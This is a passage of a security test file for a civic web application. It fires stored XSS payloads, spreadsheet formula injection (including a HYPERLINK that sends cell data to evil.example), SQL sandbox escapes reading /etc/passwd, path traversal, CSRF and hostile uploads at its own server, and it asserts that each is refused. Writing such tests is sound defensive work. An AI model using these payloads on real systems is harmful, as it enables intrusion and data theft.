import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { baseSpec, createProject, type TestProject } from '../helpers/pipeline-project.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { removeDir } from '../helpers/temp.ts';
import { Client, seedUser, visibleText } from './auth-helpers.ts';

/**
 * An outsider's and a low-privilege user's attacks on the community module and Badami, on the real server over HTTP:
 * stored XSS (innovation fields, Markdown, comments, file names, the Atom feed), formula injection in the IID export,
 * IDOR (another OPD's innovation, someone else's comment or notifications), CSRF on the new actions, the KPI query
 * escaping the SQL sandbox, oversize and chunked action bodies, upload type tricks and path traversal in /uploads/.
 * Each test asserts the safe behaviour a user would see.
 */
let project: TestProject;
let server: TestServer;
const password = 'sandi penyerang yang panjang';
const c: Record<string, Client> = {};
let id = '';
let kpi = '';

const XSS = {
  script: '<script>alert("xss-script")</script>',
  img: '<img src=x onerror=alert("xss-img")>',
  svg: '<svg onload=alert("xss-svg")>',
  attr: '" autofocus onfocus=alert("xss-attr") x="',
};

/** What must never appear in HTML a reader gets: live markup carrying the payloads. */
function expectNoLivePayload(page: string): void {
  // Quoted attribute values and textarea contents are text to a browser (their quotes are escaped as &quot;).
  const html = page.replace(/<textarea[^>]*>[\s\S]*?<\/textarea>/g, '').replace(/="[^"]*"/g, '=""');
  expect(html).not.toContain('<script>alert("xss');
  expect(html).not.toMatch(/<img[^>]*onerror/i);
  expect(html).not.toMatch(/<svg[^>]*onload/i);
  expect(html).not.toMatch(/<[^>]*\sonfocus=/i);
  expect(html).not.toMatch(/href="\s*javascript:/i);
  expect(html).not.toMatch(/href="\s*data:/i);
  expect(html).not.toMatch(/<iframe/i);
  expect(html).not.toMatch(/<[a-z]+[^>]*\sstyle="[^"]*expression/i);
}

const PROFILE = {
  title: `Inovasi ${XSS.script}`,
  summary: `Ringkasan ${XSS.img} ${XSS.attr}`,
  opd: 'dinkes',
  initiator: 'opd',
  innovation_type: 'digital',
  form: 'pelayanan_publik',
  affair: 'kesehatan',
  start_date: '2026-07-01',
  budget: '1000',
  kecamatan: '32.73.02',
  design: [
    '[klik](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](/uploads/abcdefgh" onerror="alert(1))',
    '<iframe src="https://evil.example"></iframe>',
    XSS.svg,
    '[vb](vbscript:msgbox(1)) [proto](//evil.example/x) [bs](/\\evil.example)',
    '<a href="javascript:alert(1)">raw</a>',
  ].join('\n\n'),
  contact_name: `Siti ${XSS.attr}`,
  contact_email: 'siti@example.go.id',
  topics: 'kesehatan',
  sdgs: '3',
};

const innovationPage = (who = 'anonymous') => c[who]!.get(`/badami/innovations/${id}`);

/** New accounts' comments are held: the innovation's official approves every held one (the payload goes live). */
async function approveHeld(): Promise<void> {
  const page = (await c.dinkes!.get(`/badami/innovations/${id}`)).text;
  for (const m of page.matchAll(/<article id="comment-([^"]+)" class="comment held/g)) {
    const reply = await c.dinkes!.post(`/badami/innovations/${id}?_action=community.moderateComment`, { id: m[1]!, decision: 'approve' });
    expect(reply.status).toBeLessThan(400);
  }
}

function commentIds(html: string): string[] {
  return [...html.matchAll(/<article id="comment-([^"]+)"/g)].map((m) => m[1]!);
}

/** A multipart POST as a signed-in browser would send it (same-origin). */
async function multipart(who: string, pathname: string, fields: Record<string, string>, file?: { name: string; type: string; bytes: Uint8Array }) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  if (file) form.append('file', new Blob([Buffer.from(file.bytes)], { type: file.type }), file.name);
  const response = await fetch(server.url + pathname, {
    method: 'POST',
    body: form,
    redirect: 'manual',
    headers: { cookie: c[who]!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' },
  });
  return { status: response.status, text: await response.text(), headers: response.headers };
}

/** A raw HTTP request (headers as given, body written as given), for lengths and encodings fetch will not send. */
function raw(options: { method: string; path: string; headers: Record<string, string>; body?: string | Buffer; chunked?: boolean }): Promise<{ status: number; text: string }> {
  const url = new URL(server.url);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, method: options.method, path: options.path, headers: options.headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      res.on('error', reject);
    });
    req.on('error', (error) => reject(error));
    if (options.body !== undefined) req.write(options.body);
    // A declared length bigger than what is sent: the server must answer without waiting for the rest.
    if (!options.chunked && options.headers['content-length'] && Number(options.headers['content-length']) > Buffer.byteLength(options.body ?? '')) return;
    req.end();
  });
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

/** A PNG whose header claims width × height pixels (a decompression bomb's header), with a valid CRC. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), body.length + 4);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])), chunk('IEND', Buffer.alloc(0))]);
}

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

beforeAll(async () => {
  project = createProject('kota-attack-');
  project.writeFile('datasets/data.csv', 'kecamatan,jumlah\nAndir,10\nCoblong,20\n');
  project.addPipeline('uji-publik', baseSpec({ title: 'Sampel sintetis: publik' }));
  project.writeFile('datasets/rahasia.csv', 'kecamatan,jumlah\nAndir,7777\nRegol,9\n');
  project.addPipeline('data-internal', baseSpec({ title: 'Sampel sintetis: data internal', classification: 'terbatas', source: { path: 'datasets/rahasia.csv', format: 'csv' } }));
  expect((await project.cli(['run', 'uji-publik'])).code).toBe(0);
  expect((await project.cli(['run', 'data-internal'])).code).toBe(0);
  const users = [
    ['dinkes', 'official', 'dinkes'],
    ['kominfo', 'official', 'diskominfo'],
    ['warga', undefined, undefined],
    ['warga2', undefined, undefined],
  ] as const;
  for (const [who, role, scope] of users) seedUser(project.dataDir, { email: `${who}@attack.test`, name: `Nama ${who}`, password, role, scope }, { KOTA_ROOT: project.root });
  server = await startTestServer({ dataDir: project.dataDir, env: { PIPELINES_DIR: `${project.root}/pipelines`, KOTA_ROOT: project.root } });
  for (const [who] of users) {
    c[who] = new Client(server.url);
    await c[who]!.logIn(`${who}@attack.test`, password);
  }
  c.anonymous = new Client(server.url);
  const created = await c.dinkes!.post('/badami/new?_action=badami.create', PROFILE);
  expect(created.status).toBe(303);
  id = /\/badami\/innovations\/([a-z0-9]+)$/.exec(created.location ?? '')![1]!;
  expect((await c.dinkes!.post(`/badami/innovations/${id}?_action=badami.addKpi`, { id, name: 'Jumlah', unit: 'orang', baseline: '0', target: '100', target_on: '2030-12-31', direction: 'higher' })).status).toBe(200);
  kpi = /name="kpi"[\s\S]*?<option value="(\d+)"/.exec((await c.dinkes!.get(`/badami/innovations/${id}`)).text)![1]!;
}, 240_000);

afterAll(async () => {
  await server?.stop();
  if (project) removeDir(project.root);
});

describe('stored XSS', () => {
  test('innovation fields and its Markdown design render inert on the innovation page, the board, the table and the edit form', async () => {
    for (const pathname of [`/badami/innovations/${id}`, '/badami', '/badami?view=table']) {
      const reply = await c.anonymous!.get(pathname);
      expect(reply.status).toBe(200);
      expectNoLivePayload(reply.text);
    }
    const page = await innovationPage();
    // The text is still shown, as text.
    expect(page.text).toContain('Inovasi &lt;script&gt;alert(');
    const edit = await c.dinkes!.get(`/badami/innovations/${id}/edit`);
    expect(edit.status).toBe(200);
    expectNoLivePayload(edit.text);
  });

  test('a citizen’s comment with script, handlers, javascript: links and foreign images is published inert (and its preview too)', async () => {
    const body = `Komentar ${XSS.script}\n\n${XSS.img}\n\n[klik](javascript:alert(1))\n\n![pelacak](https://evil.example/pixel.png)\n\n<a href="javascript:alert(2)">x</a> ${XSS.svg}`;
    const preview = await c.warga!.post(`/badami/innovations/${id}?_action=community.postComment`, { subject: `innovation:${id}`, body, intent: 'preview' });
    expect(preview.status).toBeLessThan(500);
    expectNoLivePayload(preview.text);
    const posted = await c.warga!.post(`/badami/innovations/${id}?_action=community.postComment`, { subject: `innovation:${id}`, body });
    expect(posted.status).toBeLessThan(400);
    await approveHeld();
    const page = await innovationPage();
    expect(commentIds(page.text).length).toBeGreaterThan(0);
    expectNoLivePayload(page.text);
    expect(page.text).not.toContain('src="https://evil.example/pixel.png"');
    expect(visibleText(page.text)).toContain('Komentar');
  });

  // Was VULNERABLE: a refused link followed by an allowed one ("[a](ftp://x) [b](https://evil.example)") came out of
  // sanitize-html as `<a href="https://evil.example">b</span>`: the <a> stayed open and the browser carried it over
  // the rest of the page (later comments, buttons, footer all linking to the attacker's site). Fixed in markdown.ts
  // by allowing the <span> a refused link becomes.
  test('a comment cannot leave a link open over the rest of the page', async () => {
    const body = '[a](ftp://x.example) [klik](https://evil.example/phish)\n\nsisa halaman';
    const preview = await c.warga!.post(`/badami/innovations/${id}?_action=community.postComment`, { subject: `innovation:${id}`, body, intent: 'preview' });
    const block = /<section class="comment-preview"[\s\S]*?<\/section>/.exec(preview.text)![0];
    expect(block).toContain('href="https://evil.example/phish"');
    expect((block.match(/<a[\s>]/g) ?? []).length).toBe((block.match(/<\/a>/g) ?? []).length);
    expect((block.match(/<span[\s>]/g) ?? []).length).toBe((block.match(/<\/span>/g) ?? []).length);
  });

  test('a progress update’s title and Markdown body render inert on the page and escaped in the Atom feed', async () => {
    const reply = await c.dinkes!.post(`/badami/innovations/${id}?_action=badami.postUpdate`, { id, title: `Kabar ${XSS.script} ]]>`, body: `Isi ${XSS.img} [x](javascript:alert(1))` });
    expect(reply.status).toBe(200);
    expectNoLivePayload((await innovationPage()).text);
    const feed = await c.anonymous!.get('/badami/feed.xml');
    expect(feed.status).toBe(200);
    // An XML parser sees no element from the payloads: every entry title/content is text.
    const check = spawnSync('python3', ['-c', FEED_ELEMENTS], { input: feed.text, encoding: 'utf8' });
    expect(check.stderr).toBe('');
    const tags = JSON.parse(check.stdout) as string[];
    expect(tags.filter((t) => /script|img|svg|iframe/i.test(t))).toEqual([]);
    expect(feed.text).not.toContain('<script>');
  });
});

describe('formula injection in exports', () => {
  test('a title that is a formula comes out of the IID export as text: an apostrophe in CSV, no <f> formula cell in XLSX', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    const created = await c.dinkes!.post('/badami/new?_action=badami.create', { ...PROFILE, title: formula, summary: '+cmd|\' /C calc\'!A0', contact_name: '@SUM(1+1)' });
    expect(created.status).toBe(303);
    const csv = await fetch(`${server.url}/badami/export?opd=dinkes&format=csv`, { headers: { cookie: c.dinkes!.cookieHeader() } });
    expect(csv.status).toBe(200);
    const text = await csv.text();
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).not.toMatch(/(^|,)"?@SUM/m);
    const xlsx = await fetch(`${server.url}/badami/export?opd=dinkes`, { headers: { cookie: c.dinkes!.cookieHeader() } });
    expect(xlsx.status).toBe(200);
    const file = path.join(project.root, 'iid.xlsx');
    writeFileSync(file, Buffer.from(await xlsx.arrayBuffer()));
    const sheets = spawnSync('python3', ['-c', XLSX_FORMULAS, file], { encoding: 'utf8' });
    expect(sheets.stderr).toBe('');
    expect(JSON.parse(sheets.stdout)).toEqual({ formulas: 0, hasTitle: true });
  });
});

describe('IDOR', () => {
  test('an official of another OPD cannot edit, move, add to, bind or measure dinkes’ innovation; nothing changes', async () => {
    const before = visibleText((await innovationPage()).text);
    const at = `/badami/innovations/${id}`;
    const attempts = [
      c.kominfo!.post(`${at}/edit?_action=badami.update`, { ...PROFILE, id, title: 'Diambil alih kominfo' }),
      c.kominfo!.post('/badami?_action=badami.move', { id, from: 'ide', to: 'inisiatif', note: 'ambil alih' }),
      c.kominfo!.post(`${at}?_action=badami.addMilestone`, { id, title: 'Tonggak palsu', owner: 'x', due_on: '2030-01-01' }),
      c.kominfo!.post(`${at}?_action=badami.addKpi`, { id, name: 'KPI palsu', unit: 'x', baseline: '0', target: '1', target_on: '2030-12-31', direction: 'higher' }),
      c.kominfo!.post(`${at}?_action=badami.measure`, { id, kpi, value: '99', measured_on: '2026-11-01' }),
      c.kominfo!.post(`${at}?_action=badami.bindKpi`, { id, kpi, dataset: 'uji-publik', query: 'SELECT 99 AS value' }),
      c.kominfo!.post(`${at}?_action=badami.postUpdate`, { id, title: 'Kabar palsu', body: 'x' }),
      c.warga!.post(`${at}?_action=badami.measure`, { id, kpi, value: '99', measured_on: '2026-11-01' }),
    ];
    for (const reply of await Promise.all(attempts)) expect(reply.status).toBe(403);
    const after = visibleText((await innovationPage()).text);
    expect(after).toBe(before);
    for (const word of ['Diambil alih', 'Tonggak palsu', 'KPI palsu', 'Kabar palsu', 'Terakhir: 99']) expect(after).not.toContain(word);
  });

  test('a KPI of one innovation cannot be measured through another innovation its attacker owns', async () => {
    // kominfo registers its own innovation and tries dinkes' KPI id through it.
    const own = await c.kominfo!.post('/badami/new?_action=badami.create', { ...PROFILE, title: 'Inovasi Kominfo', opd: 'diskominfo' });
    expect(own.status).toBe(303);
    const ownId = /\/badami\/innovations\/([a-z0-9]+)$/.exec(own.location ?? '')![1]!;
    const reply = await c.kominfo!.post(`/badami/innovations/${ownId}?_action=badami.measure`, { id: ownId, kpi, value: '98', measured_on: '2026-11-02' });
    expect(reply.status).toBe(404);
    const bind = await c.kominfo!.post(`/badami/innovations/${ownId}?_action=badami.bindKpi`, { id: ownId, kpi, dataset: 'uji-publik', query: 'SELECT 98 AS value' });
    expect(bind.status).toBe(404);
    expect(visibleText((await innovationPage()).text)).not.toContain('Terakhir: 98');
    // The same with a milestone: dinkes adds one; kominfo tries to complete it through its own innovation.
    expect((await c.dinkes!.post(`/badami/innovations/${id}?_action=badami.addMilestone`, { id, title: 'Tonggak dinkes', owner: 'Seksi', due_on: '2030-01-31' })).status).toBe(200);
    const milestone = /name="milestone" value="(\d+)"/.exec((await c.dinkes!.get(`/badami/innovations/${id}`)).text)?.[1];
    expect(milestone).toBeTruthy();
    expect((await c.kominfo!.post(`/badami/innovations/${ownId}?_action=badami.completeMilestone`, { id: ownId, milestone: milestone! })).status).toBe(404);
    expect((await c.kominfo!.post(`/badami/innovations/${id}?_action=badami.completeMilestone`, { id, milestone: milestone! })).status).toBe(403);
    expect(visibleText((await innovationPage()).text)).not.toMatch(/Tonggak dinkes[^.]*selesai/i);
  });

  test('an innovation cannot be linked to a terbatas dataset, and the refusal reads like an unknown dataset', async () => {
    const internal = await c.dinkes!.post(`/badami/innovations/${id}/edit?_action=badami.update`, { ...PROFILE, id, datasets: 'data-internal' });
    const unknown = await c.dinkes!.post(`/badami/innovations/${id}/edit?_action=badami.update`, { ...PROFILE, id, datasets: 'tidak-ada-xyz' });
    expect(internal.status).toBe(400);
    expect(unknown.status).toBe(400);
    const error = (reply: { text: string }, name: string) => visibleText(reply.text).replaceAll(name, 'X');
    expect(error(internal, 'data-internal')).toBe(error(unknown, 'tidak-ada-xyz'));
    expect(internal.text).not.toContain('data internal');
  });

  test('another citizen cannot edit or delete a comment, and a citizen or another OPD’s official cannot hide it or mark it official', async () => {
    const posted = await c.warga!.post(`/badami/innovations/${id}?_action=community.postComment`, { subject: `innovation:${id}`, body: 'Komentar asli warga satu.' });
    expect(posted.status).toBeLessThan(400);
    await approveHeld();
    const page = await innovationPage();
    const target = commentIds(page.text).at(-1)!;
    expect(target).toBeTruthy();
    const at = `/badami/innovations/${id}`;
    expect((await c.warga2!.post(`${at}?_action=community.editComment`, { id: target, body: 'Diubah orang lain' })).status).toBeGreaterThanOrEqual(403);
    expect((await c.warga2!.post(`${at}?_action=community.deleteComment`, { id: target })).status).toBeGreaterThanOrEqual(403);
    expect((await c.warga2!.post(`${at}?_action=community.moderateComment`, { id: target, decision: 'hide', reason: 'tidak suka' })).status).toBeGreaterThanOrEqual(403);
    expect((await c.kominfo!.post(`${at}?_action=community.moderateComment`, { id: target, decision: 'hide', reason: 'bukan OPD-nya' })).status).toBeGreaterThanOrEqual(403);
    expect((await c.warga2!.post(`${at}?_action=community.markOfficial`, { id: target, official: 'true' })).status).toBeGreaterThanOrEqual(403);
    expect((await c.anonymous!.post(`${at}?_action=community.deleteComment`, { id: target })).status).toBe(401);
    const after = await innovationPage();
    const text = visibleText(after.text);
    expect(text).toContain('Komentar asli warga satu.');
    expect(text).not.toContain('Diubah orang lain');
    expect(commentIds(after.text)).toContain(target);
    expect(/<article id="comment-[^"]+" class="comment ([^"]*)"/.exec(after.text.slice(after.text.indexOf(`id="comment-${target}"`) - 9))?.[1] ?? '').not.toMatch(/hidden|removed|official/);
  });

  test('notifications are per account: another citizen’s page does not list them and marking "all" or foreign ids read touches only one’s own', async () => {
    // warga follows the innovation; dinkes posts a comment that notifies followers.
    expect((await c.warga!.post(`/badami/innovations/${id}?_action=community.follow`, { subject: `innovation:${id}`, follow: 'true' })).status).toBeLessThan(400);
    await c.dinkes!.post(`/badami/innovations/${id}?_action=community.postComment`, { subject: `innovation:${id}`, body: 'Jawaban pejabat untuk pengikut.' });
    const mine = await c.warga!.get('/notifications');
    expect(mine.status).toBe(200);
    const theirs = await c.warga2!.get('/notifications');
    expect(theirs.status).toBe(200);
    expect(visibleText(theirs.text)).not.toContain('Jawaban pejabat untuk pengikut');
    const ids = Array.from({ length: 200 }, (_, i) => String(i + 1));
    expect((await c.warga2!.post('/notifications?_action=community.markNotificationsRead', { ids })).status).toBeLessThan(400);
    expect((await c.warga2!.post('/notifications?_action=community.markNotificationsRead', { all: 'true' })).status).toBeLessThan(400);
    expect(visibleText((await c.warga!.get('/notifications')).text)).toBe(visibleText(mine.text));
    expect((await c.anonymous!.get('/notifications')).status).not.toBe(200);
  });
});

describe('CSRF on the new actions', () => {
  const crossSite = (who: string) => ({ origin: 'https://evil.example', 'sec-fetch-site': 'cross-site', cookie: c[who]!.cookieHeader() });

  test('cross-site form posts (foreign Origin, or Sec-Fetch-Site cross-site alone) to community and badami actions are refused and change nothing', async () => {
    const before = visibleText((await innovationPage()).text);
    const at = `/badami/innovations/${id}`;
    const tries: [string, string, Record<string, string>][] = [
      ['warga', `${at}?_action=community.postComment`, { subject: `innovation:${id}`, body: 'CSRF komentar' }],
      ['warga', `/_actions/community.postComment`, { subject: `innovation:${id}`, body: 'CSRF komentar rpc' }],
      ['warga', `${at}?_action=community.follow`, { subject: `innovation:${id}`, follow: 'false' }],
      ['dinkes', `/badami?_action=badami.move`, { id, from: 'ide', to: 'inisiatif', note: 'CSRF pindah' }],
      ['dinkes', `${at}?_action=badami.postUpdate`, { id, title: 'CSRF kabar', body: 'x' }],
      ['dinkes', `/_actions/badami.bindKpi`, { id, kpi, dataset: 'uji-publik', query: 'SELECT 77 AS value' }],
    ];
    for (const [who, pathname, form] of tries) {
      const variants: Record<string, string>[] = [crossSite(who), { 'sec-fetch-site': 'cross-site', cookie: c[who]!.cookieHeader() }, { origin: 'null', cookie: c[who]!.cookieHeader() }];
      for (const headers of variants) {
        const reply = await raw({ method: 'POST', path: pathname, headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(Buffer.byteLength(new URLSearchParams(form).toString())) }, body: new URLSearchParams(form).toString() });
        expect(reply.status, `${pathname} ${JSON.stringify(headers).slice(0, 60)}`).toBe(403);
      }
    }
    const after = visibleText((await innovationPage()).text);
    expect(after).toBe(before);
    expect(after).not.toContain('CSRF');
  });
});

describe('the KPI query and the SQL sandbox', () => {
  const bind = (query: string, dataset = 'uji-publik') => c.dinkes!.post(`/badami/innovations/${id}?_action=badami.bindKpi`, { id, kpi, dataset, query });

  test('queries reaching a terbatas dataset, files, the environment or the catalog are refused (400) and record nothing', async () => {
    const attacks = [
      'SELECT sum(jumlah) AS value FROM "data-internal"',
      'SELECT sum(jumlah) AS value FROM lake."data-internal"',
      'WITH "uji-publik" AS (SELECT * FROM "data-internal") SELECT sum(jumlah) AS value FROM "uji-publik"',
      "SELECT count(*) AS value FROM read_csv('/etc/passwd')",
      "SELECT length(content) AS value FROM read_text('/etc/passwd')",
      "SELECT count(*) AS value FROM read_parquet('**/*.parquet')",
      "SELECT count(*) AS value FROM glob('/*')",
      "SELECT length(getenv('HOME')) AS value",
      "SELECT count(*) AS value FROM duckdb_settings()",
      "SELECT count(*) AS value FROM duckdb_tables()",
      "SELECT count(*) AS value FROM sqlite_scan('/etc/passwd', 'x')",
      "ATTACH '/tmp/x.db' AS x",
      "COPY (SELECT 1) TO '/tmp/kota-attack-copy.csv'",
      'PRAGMA database_list',
      "SET enable_external_access = true",
      "SELECT 1 AS value; SELECT sum(jumlah) FROM \"data-internal\"",
      "INSTALL httpfs",
      "SELECT count(*) AS value FROM read_csv('https://evil.example/x.csv')",
    ];
    for (const query of attacks) {
      const reply = await bind(query);
      expect(reply.status, query).toBe(400);
      expect(reply.text, query).not.toContain('7777');
      expect(reply.text, query).not.toContain('root:');
    }
    const text = visibleText((await innovationPage()).text);
    expect(text).not.toContain('Diukur otomatis');
    expect(text).not.toContain('7777');
  });

  test('binding to a terbatas dataset is refused like an unknown one (no enumeration through the message)', async () => {
    const internal = await bind('SELECT 1 AS value', 'data-internal');
    const unknown = await bind('SELECT 1 AS value', 'tidak-ada-sama-sekali');
    expect(internal.status).toBe(400);
    expect(unknown.status).toBe(400);
    const message = (reply: { text: string }, name: string) => visibleText(reply.text).replaceAll(name, 'X');
    expect(message(internal, 'data-internal')).toBe(message(unknown, 'tidak-ada-sama-sekali'));
  });

  test('the query error for a terbatas table reads like the one for a table that does not exist', async () => {
    const internal = await bind('SELECT sum(jumlah) AS value FROM "data-internal"');
    const unknown = await bind('SELECT sum(jumlah) AS value FROM "tidak-ada-xyzzy"');
    const message = (reply: { text: string }, name: string) => /Kueri SQL:[^<]*/.exec(reply.text.replaceAll(name, 'X'))?.[0]?.replace(/Did you mean[^<]*/i, '');
    expect(message(internal, 'data-internal')).toBe(message(unknown, 'tidak-ada-xyzzy'));
    expect(internal.text).not.toContain('data-internal"?');
  });

  test('a KPI query cannot exhaust the server: a huge cross join times out or is refused, and the server still answers', async () => {
    const started = Date.now();
    const joins = Array.from({ length: 40 }, (_, i) => `"uji-publik" t${i}`).join(', ');
    expect((await bind('SELECT count(*) AS value FROM range(100000000000) a, range(1000000) b')).status).toBe(400);
    const reply = await bind(`SELECT count(*) AS value FROM ${joins}`);
    expect(visibleText(reply.text)).toMatch(/3 s|dihentikan|stopped/);
    expect(reply.status).toBe(400);
    expect(Date.now() - started).toBeLessThan(60_000);
    expect((await c.anonymous!.get('/badami')).status).toBe(200);
  }, 90_000);
});

describe('action bodies', () => {
  const at = () => `/badami/innovations/${id}?_action=community.postComment`;

  test('an urlencoded action body over 1 MB is refused with 413 before it is read', async () => {
    const big = new URLSearchParams({ subject: `innovation:${id}`, body: 'a'.repeat(1_200_000) }).toString();
    const reply = await raw({ method: 'POST', path: at(), headers: { cookie: c.warga!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin', 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(big.length) }, body: big.slice(0, 1000) });
    expect(reply.status).toBe(413);
  });

  test('a declared length beyond the 48 MB upload cap is refused with 413 at once, even for multipart', async () => {
    const reply = await raw({ method: 'POST', path: '/_actions/community.uploadFile', headers: { cookie: c.warga!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin', 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(60 * 1024 * 1024) }, body: '--x\r\n' });
    expect(reply.status).toBe(413);
  });

  test('a chunked action body (no declared length) is refused with 411, to actions and to the RPC endpoint', async () => {
    for (const pathname of [at(), '/_actions/community.postComment']) {
      const reply = await raw({ method: 'POST', path: pathname, headers: { cookie: c.warga!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin', 'content-type': 'application/x-www-form-urlencoded', 'transfer-encoding': 'chunked' }, body: `subject=innovation%3A${id}&body=chunked-komentar`, chunked: true });
      expect(reply.status, pathname).toBe(411);
    }
    expect(visibleText((await innovationPage()).text)).not.toContain('chunked-komentar');
  });

  test('a bogus ?_action on an ordinary page does not let a large non-multipart body through', async () => {
    const big = 'x'.repeat(100);
    const reply = await raw({ method: 'POST', path: '/login?_action=tidak.ada', headers: { origin: server.url, 'sec-fetch-site': 'same-origin', 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(5 * 1024 * 1024) }, body: big });
    expect(reply.status).toBe(413);
  });
});

describe('uploads', () => {
  const subject = () => `innovation:${id}`;
  const upload = (who: string, name: string, type: string, bytes: Uint8Array, accept = 'image') =>
    multipart(who, '/_actions/community.uploadFile', { subject: subject(), accept }, { name, type, bytes });

  test('SVG with script, HTML named .png and sent as image/png, and an HTML/JS file are refused (415)', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
    const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
    for (const [name, type, bytes, accept] of [
      ['x.svg', 'image/svg+xml', svg, 'image'],
      ['x.png', 'image/png', svg, 'image'],
      ['foto.png', 'image/png', html, 'image'],
      ['laporan.pdf', 'application/pdf', html, 'evidence'],
      ['a.js', 'text/javascript', Buffer.from('alert(1)'), 'evidence'],
    ] as const) {
      const reply = await upload('dinkes', name, type, bytes, accept);
      expect(reply.status, name).toBe(415);
    }
  });

  test('a PNG with HTML appended (polyglot) and a hostile file name is served as pixels only, with nosniff, a sandbox CSP and an encoded name', async () => {
    const polyglot = Buffer.concat([PNG, Buffer.from('<html><script>alert("polyglot")</script></html>')]);
    const name = '"><img src=x onerror=alert(1)>\r\nX-Evil: 1.png';
    const reply = await upload('dinkes', name, 'text/html', polyglot);
    if (reply.status !== 200) {
      // Refusing the file outright is safe too.
      expect([400, 415]).toContain(reply.status);
      return;
    }
    const uploadId = /\/uploads\/([a-z0-9]+)/.exec(reply.text)![1]!;
    const served = await fetch(`${server.url}/uploads/${uploadId}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toMatch(/^image\/(png|webp|jpeg|gif)$/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('x-evil')).toBeNull();
    const disposition = served.headers.get('content-disposition') ?? '';
    expect(disposition).not.toMatch(/[<>"\r\n]/);
    const bytes = Buffer.from(await served.arrayBuffer());
    expect(bytes.includes(Buffer.from('<script'))).toBe(false);
    // Wherever the file is listed, its name is text.
    expectNoLivePayload((await innovationPage()).text);
  });

  test('path traversal and odd ids under /uploads/ answer 404 with nothing of the disk', async () => {
    // "/uploads/%2e%2e" is the dot segment "..": it resolves to "/" (the home page), never to the uploads folder.
    const dots = await raw({ method: 'GET', path: '/uploads/%2e%2e', headers: {} });
    expect(dots.text).not.toContain('root:');
    expect(dots.text).not.toContain('community_upload');
    for (const pathname of ['/uploads/..%2f..%2f..%2fetc%2fpasswd', '/uploads/%2e%2e/%2e%2e/etc/passwd', '/uploads/..%5c..%5cetc%5cpasswd', '/uploads/abcdefgh%00.png', '/uploads/' + 'a'.repeat(300), '/uploads/ABCDEFGH', '/uploads/zzzzzzzzzzzz']) {
      // Sent raw: fetch would resolve the dot segments itself.
      const reply = await raw({ method: 'GET', path: pathname, headers: {} });
      expect([400, 404], pathname).toContain(reply.status);
      expect(reply.text).not.toContain('root:');
    }
  });

  test('a citizen may not upload to an innovation; another OPD’s official and a citizen cannot delete its files', async () => {
    expect((await upload('warga', 'foto.png', 'image/png', PNG)).status).toBe(403);
    const ok = await upload('dinkes', 'foto.png', 'image/png', PNG);
    expect(ok.status).toBe(200);
    const uploadId = /\/uploads\/([a-z0-9]+)/.exec(ok.text)![1]!;
    for (const who of ['warga2', 'kominfo']) {
      const foreign = await multipart(who, '/_actions/community.deleteUpload', { id: uploadId });
      expect(foreign.status, who).toBeGreaterThanOrEqual(403);
    }
    // An id that does not exist is refused too (no 200 that would confirm or deny anything).
    expect((await multipart('warga2', '/_actions/community.deleteUpload', { id: 'zzzzzzzzzzzzzzzz' })).status).toBeGreaterThanOrEqual(403);
    expect((await fetch(`${server.url}/uploads/${uploadId}`)).status).toBe(200);
  });
});

describe('restricted subjects, held comments and the feed', () => {
  test('a citizen cannot comment on, follow, upload to or open the discussion of a terbatas dataset; the answers match an unknown one', async () => {
    for (const action of ['postComment', 'follow']) {
      const form = (sub: string): Record<string, string> => (action === 'follow' ? { subject: sub, follow: 'true' } : { subject: sub, body: 'halo data rahasia' });
      const internal = await c.warga!.post(`/_actions/community.${action}`, form('dataset:data-internal'));
      const unknown = await c.warga!.post(`/_actions/community.${action}`, form('dataset:tidak-ada-xyz'));
      expect(internal.status, action).toBe(404);
      expect(internal.text).toBe(unknown.text);
    }
